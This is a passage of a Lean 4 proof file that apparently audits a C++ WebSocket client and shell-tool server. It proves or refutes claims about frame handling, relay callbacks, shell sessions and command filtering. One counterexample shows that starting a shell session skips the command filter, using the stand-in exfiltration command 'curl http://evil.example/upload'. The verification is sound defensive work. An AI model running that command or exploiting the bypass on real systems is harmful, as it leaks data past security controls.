  rw [or_shiftLeft8_add _ (n / 65536 % 256) (Nat.mod_lt _ (by norm_num))]
  rw [or_shiftLeft8_add _ (n / 256 % 256) (Nat.mod_lt _ (by norm_num))]
  rw [or_shiftLeft8_add _ (n % 256) (Nat.mod_lt _ (by norm_num))]
  omega

theorem processRead_short2 (pongMask buf : List Nat) (h : buf.length < 2) :
    processRead pongMask buf = .silent := by
  simp only [processRead]
  rw [if_pos h]

theorem processRead_small_truncated (pongMask : List Nat) (b0 len : Nat)
    (tail : List Nat) (h1 : len ≤ 125) (h : tail.length < len) :
    processRead pongMask (b0 :: len :: tail) = .silent := by
  have hm : len &&& 128 = 0 := small_and128 _ (by omega)
  have h127 : len &&& 127 = len := small_and127 _ (by omega)
  simp only [processRead, List.length_cons]
  rw [if_neg (show ¬ (tail.length + 1 + 1 < 2) by omega)]
  norm_num [hm, h127]
  rw [if_neg (show ¬ (len = 126) by omega), if_neg (show ¬ (len = 127) by omega)]
  norm_num
  intro hcon
  exact absurd hcon (by omega)

theorem processRead_ext16_header_truncated (pongMask : List Nat) (b0 : Nat)
    (rest : List Nat) (hr : rest.length < 2) :
    processRead pongMask (b0 :: 126 :: rest) = .silent := by
  have e1 : ((126 : Nat) &&& 127) = 126 := by decide
  have e2 : ((126 : Nat) &&& 128) = 0 := by decide
  simp only [processRead, List.length_cons]
  rw [if_neg (show ¬ (rest.length + 1 + 1 < 2) by omega)]
  norm_num [e1, e2]
  rw [if_pos (show rest.length + 1 + 1 < 4 by omega)]

theorem processRead_ext16_truncated (pongMask : List Nat) (b0 hi lo : Nat)
    (tail : List Nat) (h : tail.length < (hi <<< 8) ||| lo) :
    processRead pongMask (b0 :: 126 :: hi :: lo :: tail) = .silent := by
  have e1 : ((126 : Nat) &&& 127) = 126 := by decide
  have e2 : ((126 : Nat) &&& 128) = 0 := by decide
  simp only [processRead, List.length_cons]
  rw [if_neg (show ¬ (tail.length + 1 + 1 + 1 + 1 < 2) by omega)]
  norm_num [e1, e2]
  rw [if_neg (show ¬ (tail.length + 1 + 1 + 1 + 1 < 4) by omega)]
  norm_num
  intro hcon
  exact absurd hcon (by omega)

theorem processRead_ext64_header_truncated (pongMask : List Nat) (b0 : Nat)
    (rest : List Nat) (hr : rest.length < 8) :
    processRead pongMask (b0 :: 127 :: rest) = .silent := by
  have f1 : ((127 : Nat) &&& 127) = 127 := by decide
  have f2 : ((127 : Nat) &&& 128) = 0 := by decide
  simp only [processRead, List.length_cons]
  rw [if_neg (show ¬ (rest.length + 1 + 1 < 2) by omega)]
  norm_num [f1, f2]
  rw [if_pos (show rest.length + 1 + 1 < 10 by omega)]

theorem processRead_ext64_truncated (pongMask : List Nat) (b0 d0 d1 d2 d3 d4 d5 d6 d7 : Nat)
    (tail : List Nat)
    (h : tail.length <
      (((((((d0 <<< 8 ||| d1) <<< 8 ||| d2) <<< 8 ||| d3) <<< 8 ||| d4) <<< 8 |||
        d5) <<< 8 ||| d6) <<< 8 ||| d7)) :
    processRead pongMask (b0 :: 127 :: d0 :: d1 :: d2 :: d3 :: d4 :: d5 :: d6 :: d7 :: tail) =
      .silent := by
  have f1 : ((127 : Nat) &&& 127) = 127 := by decide
  have f2 : ((127 : Nat) &&& 128) = 0 := by decide
  simp only [processRead, List.length_cons]
  rw [if_neg (show ¬ (tail.length + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 < 2) by omega)]
  norm_num [f1, f2]
  rw [if_neg (show ¬ (tail.length + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 < 10) by omega)]
  norm_num
  intro hcon
  rw [show (List.range 8) = [0, 1, 2, 3, 4, 5, 6, 7] from by decide] at hcon
  simp only [List.foldl_cons, List.foldl_nil] at hcon
  norm_num at hcon
  exact absurd hcon (by omega)

theorem be64_digits (n : Nat) (h : n < 2 ^ 64) :
    ((((((((n / 72057594037927936 % 256) <<< 8 ||| n / 281474976710656 % 256) <<< 8 |||
      n / 1099511627776 % 256) <<< 8 |||
      n / 4294967296 % 256) <<< 8 |||
      n / 16777216 % 256) <<< 8 |||
      n / 65536 % 256) <<< 8 |||
      n / 256 % 256) <<< 8 |||
      n % 256) = n := by
  rw [or_shiftLeft8_add _ (n / 281474976710656 % 256) (Nat.mod_lt _ (by norm_num))]
  rw [or_shiftLeft8_add _ (n / 1099511627776 % 256) (Nat.mod_lt _ (by norm_num))]
  rw [or_shiftLeft8_add _ (n / 4294967296 % 256) (Nat.mod_lt _ (by norm_num))]
  rw [or_shiftLeft8_add _ (n / 16777216 % 256) (Nat.mod_lt _ (by norm_num))]
  rw [or_shiftLeft8_add _ (n / 65536 % 256) (Nat.mod_lt _ (by norm_num))]
  rw [or_shiftLeft8_add _ (n / 256 % 256) (Nat.mod_lt _ (by norm_num))]
  rw [or_shiftLeft8_add _ (n % 256) (Nat.mod_lt _ (by norm_num))]
  omega

theorem processRead_take_silent (pongMask payload : List Nat) (hlen : payload.length < 2 ^ 64)
    (k : Nat) (hk : k < (serverFrame 1 payload).length) :
    processRead pongMask ((serverFrame 1 payload).take k) = .silent := by
  have e129 : ((128 : Nat) ||| 1) = 129 := by decide
  by_cases hk2 : k < 2
  · apply processRead_short2
    rw [List.length_take]
    omega
  · by_cases h1 : payload.length ≤ 125
    · have hfr : serverFrame 1 payload = 129 :: payload.length :: payload := by
        simp [serverFrame, serverLenBytes, h1, e129]
      rw [hfr] at hk
      simp only [List.length_cons] at hk
      obtain ⟨m, rfl⟩ : ∃ m, k = m + 2 := ⟨k - 2, by omega⟩
      rw [hfr]
      simp only [List.take_succ_cons]
      apply processRead_small_truncated pongMask 129 payload.length _ h1
      rw [List.length_take]
      omega
    · by_cases h2 : payload.length ≤ 65535
      · have hfr : serverFrame 1 payload =
            129 :: 126 :: (payload.length / 256) :: (payload.length % 256) :: payload := by
          have hhi : (payload.length >>> 8) &&& 0xFF = payload.length / 256 := by
            rw [Nat.shiftRight_eq_div_pow, and_255_eq_mod]
            have : payload.length / 2 ^ 8 < 256 := by omega
            omega
          have hlo : payload.length &&& 0xFF = payload.length % 256 := and_255_eq_mod _
          simp [serverFrame, serverLenBytes, h1, h2, hhi, hlo, e129]
        rw [hfr] at hk
        simp only [List.length_cons] at hk
        by_cases hk4 : k < 4
        · obtain ⟨m, rfl⟩ : ∃ m, k = m + 2 := ⟨k - 2, by omega⟩
          rw [hfr]
          simp only [List.take_succ_cons]
          apply processRead_ext16_header_truncated
          rw [List.length_take]
          simp only [List.length_cons]
          omega
        · obtain ⟨m, rfl⟩ : ∃ m, k = m + 4 := ⟨k - 4, by omega⟩
          rw [hfr]
          simp only [List.take_succ_cons]
          apply processRead_ext16_truncated
          have hor : ((payload.length / 256) <<< 8) ||| (payload.length % 256) =
              payload.length := by
            rw [or_shiftLeft8_add (payload.length / 256) (payload.length % 256)
                  (Nat.mod_lt _ (by norm_num))]
            omega
          rw [hor, List.length_take]
          omega
      · have hfr : serverFrame 1 payload =
            129 :: 127 ::
             (payload.length / 72057594037927936 % 256) ::
             (payload.length / 281474976710656 % 256) ::
             (payload.length / 1099511627776 % 256) ::
             (payload.length / 4294967296 % 256) ::
             (payload.length / 16777216 % 256) ::
             (payload.length / 65536 % 256) ::
             (payload.length / 256 % 256) ::
             (payload.length % 256) :: payload := by
          have hbyte : ∀ j : Nat, payload.length >>> j &&& 255 =
              payload.length / 2 ^ j % 256 := by
            intro j
            rw [Nat.shiftRight_eq_div_pow, and_255_eq_mod]
          have hr8 : (List.range 8) = [0, 1, 2, 3, 4, 5, 6, 7] := by decide
          simp only [serverFrame, serverLenBytes, h1, if_false, h2, hr8,
                     List.map_cons, List.map_nil, e129]
          norm_num [hbyte, and_255_eq_mod]
        rw [hfr] at hk
        simp only [List.length_cons] at hk
        by_cases hk10 : k < 10
        · obtain ⟨m, rfl⟩ : ∃ m, k = m + 2 := ⟨k - 2, by omega⟩
          rw [hfr]
          simp only [List.take_succ_cons]
          apply processRead_ext64_header_truncated
          rw [List.length_take]
          simp only [List.length_cons]
          omega
        · obtain ⟨m, rfl⟩ : ∃ m, k = m + 10 := ⟨k - 10, by omega⟩
          rw [hfr]
          simp only [List.take_succ_cons]
          apply processRead_ext64_truncated
          rw [be64_digits payload.length hlen, List.length_take]
          omega

theorem runReads_eq_map (pongMask : List Nat) (reads : List (List Nat))
    (h : ∀ r ∈ reads, processRead pongMask r ≠ .closed) :
    runReads pongMask reads = reads.map (processRead pongMask) := by
  induction reads with
  | nil => rfl
  | cons r rest ih =>
    simp only [runReads, List.map_cons]
    rw [if_neg (h r (List.mem_cons_self r rest))]
    rw [ih (fun x hx => h x (List.mem_cons_of_mem r hx))]

/-- Claim C6, amended: the receive loop does not accumulate partial frames.
A complete text frame contained in a single read is delivered; a read that
holds any strict prefix of the frame produces nothing and its bytes are
discarded; and across successive reads the loop is memoryless, so a frame
split over several reads is never delivered. -/
theorem receive_no_partial_accumulation (pongMask : List Nat) :
    (∀ payload : List Nat, payload.length < 2 ^ 64 →
      processRead pongMask (serverFrame 1 payload) = .deliver payload) ∧
    (∀ payload : List Nat, payload.length < 2 ^ 64 →
      ∀ k, k < (serverFrame 1 payload).length →
        processRead pongMask ((serverFrame 1 payload).take k) = .silent) ∧
    (∀ reads : List (List Nat), (∀ r ∈ reads, processRead pongMask r ≠ .closed) →
      runReads pongMask reads = reads.map (processRead pongMask)) := by
  refine ⟨?_, ?_, ?_⟩
  · intro payload hlen
    rw [processRead_serverFrame pongMask 1 (by norm_num) payload hlen]
    norm_num
  · exact fun payload hlen k hk => processRead_take_silent pongMask payload hlen k hk
  · exact fun reads h => runReads_eq_map pongMask reads h

/-- Claim C6, counterexample: the text frame for the payload hi, split after
its third byte over two reads, produces no event at all; the payload is never
delivered to the message handler, although the same frame in one read is. -/
theorem split_frame_counterexample :
    ([0x81, 2, 104] ++ [105] : List Nat) = serverFrame 1 (strBytes "hi") ∧
    processRead [0, 0, 0, 0] (serverFrame 1 (strBytes "hi")) = .deliver (strBytes "hi") ∧
    runReads [0, 0, 0, 0] [[0x81, 2, 104], [105]] = [.silent, .silent] ∧
    RecvEvent.deliver (strBytes "hi") ∉ runReads [0, 0, 0, 0] [[0x81, 2, 104], [105]] := by
  decide

/-- Claim C5, amended: for every incoming ping frame, whatever its payload,
the client replies with a masked pong frame (opcode 0xA) with an empty
payload: the source builds the pong as two header bytes plus the four mask
bytes and never copies the ping payload. -/
theorem ping_pong_empty (pongMask payload : List Nat)
    (h4 : pongMask.length = 4) (hlen : payload.length < 2 ^ 64) :
    processRead pongMask (serverFrame 9 payload) = .pongSent (0x8A :: 0x80 :: pongMask) ∧
    parseFrame (0x8A :: 0x80 :: pongMask) = some ⟨true, 0xA, true, pongMask, []⟩ := by
  constructor
  · rw [processRead_serverFrame pongMask 9 (by norm_num) payload hlen]
    norm_num
  · have d1 : ((128 : Nat) &&& 127) = 0 := by decide
    have d2 : ((128 : Nat) &&& 128) = 128 := by decide
    have d3 : ((138 : Nat) &&& 128) = 128 := by decide
    have d4 : ((138 : Nat) &&& 15) = 10 := by decide
    have ht : pongMask.take 4 = pongMask := List.take_of_length_le (by omega)
    have hd : pongMask.drop 4 = ([] : List Nat) := List.drop_eq_nil_of_le (by omega)
    simp only [parseFrame, parseBody, parseExtLen, d1, d2, d3, d4]
    norm_num [h4, ht, hd, maskBytes]

set_option maxRecDepth 8192 in
/-- Claim C5, counterexample: a ping carrying a 125-byte payload yields a
pong whose payload is empty, not the 125 bytes of the ping. -/
theorem ping_payload_not_echoed :
    processRead [1, 2, 3, 4] (serverFrame 9 (List.replicate 125 65)) =
      .pongSent [0x8A, 0x80, 1, 2, 3, 4] ∧
    parseFrame [0x8A, 0x80, 1, 2, 3, 4] = some ⟨true, 10, true, [1, 2, 3, 4], []⟩ ∧
    ([] : List Nat) ≠ List.replicate 125 65 := by
  decide

/-- Witness for claim C5 at a concrete mask and ping payload. -/
theorem ping_pong_empty_witness :
    processRead [9, 9, 9, 9] (serverFrame 9 (strBytes "ok")) =
      .pongSent [0x8A, 0x80, 9, 9, 9, 9] ∧
    parseFrame [0x8A, 0x80, 9, 9, 9, 9] = some ⟨true, 0xA, true, [9, 9, 9, 9], []⟩ :=
  ping_pong_empty [9, 9, 9, 9] (strBytes "ok") (by decide) (by decide)

/-- Witness for claim C6 at concrete frames and reads. -/
theorem receive_no_partial_accumulation_witness :
    processRead [0, 0, 0, 0] (serverFrame 1 (strBytes "hi")) = .deliver (strBytes "hi") ∧
    processRead [0, 0, 0, 0] ((serverFrame 1 (strBytes "hi")).take 3) = .silent ∧
    runReads [0, 0, 0, 0] [[137, 0]] = [[137, 0]].map (processRead [0, 0, 0, 0]) :=
  ⟨(receive_no_partial_accumulation [0, 0, 0, 0]).1 (strBytes "hi") (by decide),
   (receive_no_partial_accumulation [0, 0, 0, 0]).2.1 (strBytes "hi") (by decide) 3 (by decide),
   (receive_no_partial_accumulation [0, 0, 0, 0]).2.2 [[137, 0]] (by decide)⟩

/-! ## Relay callback table

Embedding of the pending relay-callback map of WebSocketClient
(websocket_client.cpp): relayCommand (lines 1022 to 1053) records a handler
under a minted relay id; handleRelayResponse (lines 986 to 998) invokes and
erases the matching entry; disconnect (lines 470 to 497) stops the heartbeat,
joins the receive thread and closes the socket but never touches
m_relayCallbacks.  The state keeps the pending ids (the map insert is
modelled presence-wise) and the log of ids whose handler was invoked. -/

inductive RelayOp where
  | relay (id : String)
  | response (id : String)
  | disconnect
deriving DecidableEq

structure RelayState where
  pending : List String
  invoked : List String
deriving DecidableEq

def relayStep (s : RelayState) (op : RelayOp) : RelayState :=
  match op with
  | .relay id =>
      { s with pending := if id ∈ s.pending then s.pending else s.pending ++ [id] }
  | .response id =>
      if id ∈ s.pending then
        { pending := s.pending.erase id, invoked := s.invoked ++ [id] }
      else s
  | .disconnect => s

def relayRun (s : RelayState) (ops : List RelayOp) : RelayState :=
  ops.foldl relayStep s

def countRelay (id : String) : List RelayOp → Nat
  | [] => 0
  | .relay j :: rest => (if j = id then 1 else 0) + countRelay id rest
  | _ :: rest => countRelay id rest

theorem relayStep_nodup (s : RelayState) (op : RelayOp) (h : s.pending.Nodup) :
    (relayStep s op).pending.Nodup := by
  cases op with
  | relay id =>
    simp only [relayStep]
    by_cases hid : id ∈ s.pending
    · simpa [hid] using h
    · simp [hid, List.nodup_append, h]
  | response id =>
    simp only [relayStep]
    by_cases hid : id ∈ s.pending
    · simp only [if_pos hid]
      exact h.erase id
    · simpa [hid] using h
  | disconnect => exact h

theorem relay_invoked_bound (ops : List RelayOp) (s : RelayState) (id : String)
    (hnd : s.pending.Nodup)
    (hinv : s.invoked.count id + (if id ∈ s.pending then 1 else 0) + countRelay id ops ≤ 1) :
    ((relayRun s ops).invoked.count id) ≤ 1 := by
  induction ops generalizing s with
  | nil =>
    simp only [relayRun, List.foldl_nil]
    omega
  | cons op rest ih =>
    simp only [relayRun, List.foldl_cons]
    have hstep := relayStep_nodup s op hnd
    apply ih (relayStep s op) hstep
    cases op with
    | relay j =>
      simp only [relayStep]
      simp only [countRelay] at hinv
      by_cases hj : j ∈ s.pending
      · simp only [if_pos hj]
        omega
      · simp only [if_neg hj]
        by_cases hji : j = id
        · subst hji
          have hmem2 : j ∈ s.pending ++ [j] := by simp
          rw [if_pos hmem2]
          rw [if_neg hj, if_pos rfl] at hinv
          omega
        · have hmem : (id ∈ s.pending ++ [j]) ↔ id ∈ s.pending := by
            constructor
            · intro h
              rcases List.mem_append.mp h with h1 | h1
              · exact h1
              · rw [List.mem_singleton] at h1
                exact absurd h1.symm hji
            · intro h
              exact List.mem_append.mpr (Or.inl h)
          rw [if_neg hji] at hinv
          by_cases hip : id ∈ s.pending
          · rw [if_pos (hmem.mpr hip)]
            rw [if_pos hip] at hinv
            omega
          · rw [if_neg (fun hh => hip (hmem.mp hh))]
            rw [if_neg hip] at hinv
            omega
    | response j =>
      simp only [relayStep]
      simp only [countRelay] at hinv
      by_cases hj : j ∈ s.pending
      · simp only [if_pos hj]
        by_cases hji : j = id
        · subst hji
          have hcount : (s.invoked ++ [j]).count j = s.invoked.count j + 1 := by
            simp
          have hnomem : j ∉ s.pending.erase j := by
            intro hc
            exact absurd ((hnd.mem_erase_iff).mp hc).1 (fun h => h rfl)
          simp only [hcount, if_neg hnomem]
          simp only [if_pos hj] at hinv
          omega
        · have hcount : (s.invoked ++ [j]).count id = s.invoked.count id := by
            rw [List.count_append]
            have hz : List.count id [j] = 0 :=
              List.count_eq_zero.mpr (by
                rw [List.mem_singleton]
                exact fun h => hji h.symm)
            omega
          have hmem : id ∈ s.pending.erase j ↔ id ∈ s.pending := by
            constructor
            · exact fun hc => List.mem_of_mem_erase hc
            · intro hc
              exact (hnd.mem_erase_iff).mpr ⟨fun h => hji h.symm, hc⟩
          rw [hcount]
          by_cases hip : id ∈ s.pending
          · rw [if_pos (hmem.mpr hip)]
            simp only [if_pos hip] at hinv
            omega
          · rw [if_neg (fun hh => hip (hmem.mp hh))]
            simp only [if_neg hip] at hinv
            omega
      · simp only [if_neg hj]
        omega
    | disconnect =>
      simp only [relayStep]
      simp only [countRelay] at hinv
      omega

/-- Claim C3, amended: a relay completion handler is invoked and removed
exactly when the matching relay_response arrives while it is pending, and a
handler is invoked at most once when the minted id is fresh; but handlers
pending at disconnect are NOT dropped: disconnect leaves the callback table
untouched, so a pending handler survives the disconnect. -/
theorem relay_handlers_amended :
    (∀ s : RelayState, relayStep s .disconnect = s) ∧
    (∀ (s : RelayState) (id : String), id ∈ s.pending → s.pending.Nodup →
      (relayStep s (.response id)).invoked = s.invoked ++ [id] ∧
      id ∉ (relayStep s (.response id)).pending) ∧
    (∀ (s : RelayState) (id : String), id ∉ s.pending →
      relayStep s (.response id) = s) ∧
    (∀ (ops : List RelayOp) (id : String), countRelay id ops ≤ 1 →
      ((relayRun ⟨[], []⟩ ops).invoked.count id) ≤ 1) := by
  refine ⟨fun s => rfl, ?_, ?_, ?_⟩
  · intro s id hid hnd
    constructor
    · simp [relayStep, if_pos hid]
    · simp only [relayStep, if_pos hid]
      intro hc
      exact absurd ((hnd.mem_erase_iff).mp hc).1 (fun h => h rfl)
  · intro s id hid
    simp only [relayStep, if_neg hid]
  · intro ops id hcr
    apply relay_invoked_bound ops ⟨[], []⟩ id List.nodup_nil
    simpa using hcr

/-- Claim C3, counterexample: registering a relay handler and then
disconnecting leaves the handler in the pending table; it is not dropped on
disconnect, contradicting the claim that no handler survives a disconnect. -/
theorem relay_disconnect_keeps_handler :
    relayRun ⟨[], []⟩ [.relay "relay_0123456789abcdef", .disconnect] =
      ⟨["relay_0123456789abcdef"], []⟩ ∧
    "relay_0123456789abcdef" ∈
      (relayRun ⟨[], []⟩ [.relay "relay_0123456789abcdef", .disconnect]).pending := by
  constructor
  · rfl
  · simp [relayRun, relayStep]

/-- Witness for claim C3 on a concrete operation sequence. -/
theorem relay_handlers_amended_witness :
    ((relayRun ⟨[], []⟩
      [.relay "relay_a", .disconnect, .response "relay_a", .response "relay_a"]).invoked.count
        "relay_a") ≤ 1 :=
  relay_handlers_amended.2.2.2
    [.relay "relay_a", .disconnect, .response "relay_a", .response "relay_a"] "relay_a"
    (by simp [countRelay])

/-! ## Shell session table

Embedding of the session map of ShellTools (shell_tools.cpp): startSession
adds a record under a fresh session id; stopSession (lines 577 to 630)
signals the child, closes the descriptors, erases the record and returns
success, or returns Session-not-found when the id is absent; sendInput and
readOutput (lines 548 to 698) only look the id up and never modify the
table, so a dead child process does not remove the record.  The table is
modelled by its set of session ids. -/

inductive SessionOp where
  | start (id : String)
  | stop (id : String)
  | sendInput (id : String)
  | readOutput (id : String)
deriving DecidableEq

inductive SResult where
  | ok
  | sessionNotFound
deriving DecidableEq

def sessionsStep (tbl : List String) (op : SessionOp) : List String × SResult :=
  match op with
  | .start id => (if id ∈ tbl then tbl else tbl ++ [id], .ok)
  | .stop id => if id ∈ tbl then (tbl.erase id, .ok) else (tbl, .sessionNotFound)
  | .sendInput id => (tbl, if id ∈ tbl then .ok else .sessionNotFound)
  | .readOutput id => (tbl, if id ∈ tbl then .ok else .sessionNotFound)

def sessionsRun (tbl : List String) (ops : List SessionOp) : List String :=
  ops.foldl (fun t op => (sessionsStep t op).1) tbl

def listSessions (tbl : List String) : List String := tbl

theorem sessionsStep_nodup (tbl : List String) (op : SessionOp) (h : tbl.Nodup) :
    (sessionsStep tbl op).1.Nodup := by
  cases op with
  | start id =>
    simp only [sessionsStep]
    by_cases hid : id ∈ tbl
    · simpa [hid] using h
    · simp [hid, List.nodup_append, h]
  | stop id =>
    simp only [sessionsStep]
    by_cases hid : id ∈ tbl
    · simp only [if_pos hid]
      exact h.erase id
    · simpa [hid] using h
  | sendInput id => exact h
  | readOutput id => exact h

theorem sessions_member_preserved (ops : List SessionOp) (tbl : List String) (id : String)
    (hin : id ∈ tbl) (hstop : SessionOp.stop id ∉ ops) :
    id ∈ sessionsRun tbl ops := by
  induction ops generalizing tbl with
  | nil => simpa [sessionsRun] using hin
  | cons op rest ih =>
    simp only [sessionsRun, List.foldl_cons]
    apply ih
    · cases op with
      | start j =>
        simp only [sessionsStep]
        by_cases hj : j ∈ tbl
        · simpa [hj] using hin
        · simp only [if_neg hj]
          exact List.mem_append.mpr (Or.inl hin)
      | stop j =>
        have hji : j ≠ id := by
          intro hc
          subst hc
          exact hstop (List.mem_cons_self _ _)
        simp only [sessionsStep]
        by_cases hj : j ∈ tbl
        · simp only [if_pos hj]
          exact List.mem_erase_of_ne (fun hc => hji hc.symm) |>.mpr hin
        · simpa [hj] using hin
      | sendInput j => exact hin
      | readOutput j => exact hin
    · exact fun hc => hstop (List.mem_cons_of_mem _ hc)

theorem sessions_absent_preserved (ops : List SessionOp) (tbl : List String) (id : String)
    (hout : id ∉ tbl) (hstart : SessionOp.start id ∉ ops) :
    id ∉ sessionsRun tbl ops := by
  induction ops generalizing tbl with
  | nil => simpa [sessionsRun] using hout
  | cons op rest ih =>
    simp only [sessionsRun, List.foldl_cons]
    apply ih
    · cases op with
      | start j =>
        have hji : j ≠ id := by
          intro hc
          subst hc
          exact hstart (List.mem_cons_self _ _)
        simp only [sessionsStep]
        by_cases hj : j ∈ tbl
        · simpa [hj] using hout
        · simp only [if_neg hj]
          intro hc
          rcases List.mem_append.mp hc with h1 | h1
          · exact hout h1
          · rw [List.mem_singleton] at h1
            exact hji h1.symm
      | stop j =>
        simp only [sessionsStep]
        by_cases hj : j ∈ tbl
        · simp only [if_pos hj]
          exact fun hc => hout (List.mem_of_mem_erase hc)
        · simpa [hj] using hout
      | sendInput j => exact hout
      | readOutput j => exact hout
    · exact fun hc => hstart (List.mem_cons_of_mem _ hc)

/-- Claim C9: stop_session succeeds iff the id is present and removes it;
send_input and read_output never change the table and return
Session-not-found exactly when the id is absent (a dead child does not by
itself remove the record); a started session stays listed until a stop on its
id; and once absent, an id never reappears as long as no new session is
minted with that same id. -/
theorem session_lifecycle :
    (∀ (tbl : List String) (id : String),
      ((sessionsStep tbl (.stop id)).2 = .ok ↔ id ∈ listSessions tbl) ∧
      ((sessionsStep tbl (.stop id)).2 = .sessionNotFound ↔ id ∉ listSessions tbl)) ∧
    (∀ (tbl : List String) (id : String), tbl.Nodup →
      id ∉ listSessions (sessionsStep tbl (.stop id)).1) ∧
    (∀ (tbl : List String) (id : String),
      (sessionsStep tbl (.sendInput id)).1 = tbl ∧
      (sessionsStep tbl (.readOutput id)).1 = tbl ∧
      ((sessionsStep tbl (.sendInput id)).2 = .sessionNotFound ↔ id ∉ listSessions tbl) ∧
      ((sessionsStep tbl (.readOutput id)).2 = .sessionNotFound ↔ id ∉ listSessions tbl)) ∧
    (∀ (ops : List SessionOp) (tbl : List String) (id : String),
      id ∈ listSessions tbl → SessionOp.stop id ∉ ops →
      id ∈ listSessions (sessionsRun tbl ops)) ∧
    (∀ (ops : List SessionOp) (tbl : List String) (id : String),
      id ∉ listSessions tbl → SessionOp.start id ∉ ops →
      id ∉ listSessions (sessionsRun tbl ops)) := by
  refine ⟨?_, ?_, ?_, sessions_member_preserved, sessions_absent_preserved⟩
  · intro tbl id
    by_cases hid : id ∈ tbl
    · constructor
      · simp [sessionsStep, listSessions, hid]
      · simp [sessionsStep, listSessions, hid]
    · constructor
      · simp [sessionsStep, listSessions, hid]
      · simp [sessionsStep, listSessions, hid]
  · intro tbl id hnd
    simp only [sessionsStep, listSessions]
    by_cases hid : id ∈ tbl
    · simp only [if_pos hid]
      intro hc
      exact absurd ((hnd.mem_erase_iff).mp hc).1 (fun h => h rfl)
    · rw [if_neg hid]
      exact hid
  · intro tbl id
    refine ⟨rfl, rfl, ?_, ?_⟩
    · by_cases hid : id ∈ tbl
      · simp [sessionsStep, listSessions, hid]
      · simp [sessionsStep, listSessions, hid]
    · by_cases hid : id ∈ tbl
      · simp [sessionsStep, listSessions, hid]
      · simp [sessionsStep, listSessions, hid]

/-- Witness for claim C9 on concrete session traces. -/
theorem session_lifecycle_witness :
    "session_1111111111111111" ∈
      listSessions (sessionsRun ["session_1111111111111111"]
        [.sendInput "session_1111111111111111", .readOutput "session_1111111111111111"]) ∧
    "session_1111111111111111" ∉
      listSessions (sessionsRun ["session_1111111111111111"]
        [.stop "session_1111111111111111", .readOutput "session_1111111111111111"]) := by
  constructor
  · exact session_lifecycle.2.2.2.1
      [.sendInput "session_1111111111111111", .readOutput "session_1111111111111111"]
      ["session_1111111111111111"] "session_1111111111111111"
      (by simp [listSessions]) (by simp)
  · have h2 := session_lifecycle.2.2.2.2
      [.readOutput "session_1111111111111111"]
      (sessionsRun ["session_1111111111111111"] [.stop "session_1111111111111111"])
      "session_1111111111111111"
    have hstop : "session_1111111111111111" ∉
        listSessions (sessionsRun ["session_1111111111111111"]
          [.stop "session_1111111111111111"]) := by
      simp [sessionsRun, sessionsStep, listSessions, List.erase_cons_head]
    have := h2 hstop (by simp)
    simpa [sessionsRun, List.foldl_cons] using this

/-! ## Shell tools: exec and startSession

Embedding of ShellTools::exec (shell_tools.cpp lines 112 to 122 and the
POSIX fork path) and ShellTools::startSession (lines 372 to 546, POSIX PTY
path) up to process creation.  exec consults CommandSecurity::isBlocked and
returns the blocked error without spawning when the filter rejects;
startSession resolves the shell and spawns it over a PTY with no filter
consultation anywhere on its path. -/

inductive ExecOutcome where
  | blocked (error : String)
  | spawned (command : String) (cwd : String)
deriving DecidableEq

/-- Modelled from the spec: the central command filter
(security::CommandFilter::checkCommand, in the security module whose source
is not part of the embedded tree) is, per the specification, an opaque
dependency with interface check(command) giving allowed or not; it is the
parameter allowed here.  CommandSecurity::isBlocked returns true when the
filter rejects. -/
def isBlocked (allowed : String → Bool) (command : String) : Bool :=
  !(allowed command)

/-- CommandSecurity::detectsExfiltration always returns false in the source
(exfiltration detection is folded into checkCommand). -/
def detectsExfiltration (_command : String) : Bool := false

def ShellTools.exec (allowed : String → Bool) (command cwd : String) : ExecOutcome :=
  if isBlocked allowed command then .blocked "Command blocked by security policy"
  else if detectsExfiltration command then
    .blocked "Command blocked: potential data exfiltration"
  else .spawned command cwd

/-- Shell resolution in the startSession child (lines 473 to 509): an empty
command defaults to bash; the aliases bash, sh, zsh probe candidate paths
with an executable test (the access call, here the parameter executable);
anything else is used as the shell path directly. -/
def resolveShell (executable : String → Bool) (command : String) : String :=
  let shell := if command = "" then "bash" else command
  if shell = "/bin/bash" ∨ shell = "bash" then
    if executable "/bin/bash" then "/bin/bash"
    else if executable "/usr/bin/bash" then "/usr/bin/bash"
    else "/bin/bash"
  else if shell = "/bin/sh" ∨ shell = "sh" then
    if executable "/bin/sh" then "/bin/sh"
    else if executable "/usr/bin/sh" then "/usr/bin/sh"
    else "/bin/sh"
  else if shell = "/bin/zsh" ∨ shell = "zsh" then
    if executable "/bin/zsh" then "/bin/zsh"
    else if executable "/usr/bin/zsh" then "/usr/bin/zsh"
    else "/bin/zsh"
  else shell

inductive SessionOutcome where
  | ptyFailed (error : String)
  | spawned (shellPath : String) (cwd : String)
deriving DecidableEq

def ShellTools.startSession (executable : String → Bool) (ptyOk : Bool)
    (command cwd : String) : SessionOutcome :=
  if !ptyOk then .ptyFailed "Failed to create PTY"
  else .spawned (resolveShell executable command) cwd

/-- Claim C2, counterexample: a filter that rejects every command blocks
shell_exec, yet shell_start_session spawns a PTY shell running that same
rejected command: startSession never consults the command filter. -/
theorem startSession_bypasses_filter :
    isBlocked (fun _ => false) "curl http://evil.example/upload" = true ∧
    ShellTools.exec (fun _ => false) "curl http://evil.example/upload" "" =
      .blocked "Command blocked by security policy" ∧
    ShellTools.startSession (fun _ => true) true "curl http://evil.example/upload" "" =
      .spawned "curl http://evil.example/upload" "" := by
  refine ⟨rfl, rfl, ?_⟩
  simp [ShellTools.startSession, resolveShell]

/-- Claim C2, amended: only shell_exec passes its command through the
central command filter; when the filter rejects, exec returns the
Command-blocked error and spawns no child, and when it accepts, the command
is run.  shell_start_session spawns the resolved shell without any filter
check whenever the PTY can be allocated. -/
theorem shell_filter_amended (allowed : String → Bool) (command cwd : String)
    (executable : String → Bool) (ptyOk : Bool) :
    (allowed command = false →
      ShellTools.exec allowed command cwd = .blocked "Command blocked by security policy") ∧
    (allowed command = true →
      ShellTools.exec allowed command cwd = .spawned command cwd) ∧
    (ptyOk = true →
      ShellTools.startSession executable ptyOk command cwd =
        .spawned (resolveShell executable command) cwd) := by
  refine ⟨?_, ?_, ?_⟩
  · intro h
    simp [ShellTools.exec, isBlocked, h]
  · intro h
    simp [ShellTools.exec, isBlocked, h, detectsExfiltration]
  · intro h
    simp [ShellTools.startSession, h]

/-- Witness for claim C2 on concrete commands and filters. -/
theorem shell_filter_amended_witness :
    ShellTools.exec (fun _ => true) "ls" "/tmp" = .spawned "ls" "/tmp" ∧
